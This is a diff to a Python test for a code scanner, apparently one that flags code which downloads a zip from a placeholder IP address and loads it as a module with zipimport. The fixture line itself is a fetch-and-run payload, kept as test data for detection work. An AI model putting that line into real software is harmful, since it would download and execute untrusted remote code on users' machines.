@@ -25,9 +25,8 @@ def found(folder: Path, line: str) -> list[Finding]:
 
 
 def test_what_is_fetched_and_run_in_a_function_that_nothing_calls(tmp_path: Path) -> None:
-    (told,) = found(
-        tmp_path, "zipimport.zipimporter(urllib.request.urlretrieve('http://198.51.100.1/x.zip')[0]).load_module('x')"
-    )
+    fetched = "urllib.request.urlretrieve('http://192.0.2.1/x.zip', '/tmp/x.zip')"
+    (told,) = found(tmp_path, f"{fetched}; zipimport.zipimporter('/tmp/x.zip').load_module('x')")
     assert (told.location.place, told.location.line) == ("layer.py", 9)
     assert told.message.startswith("runs a file that it fetches")
 
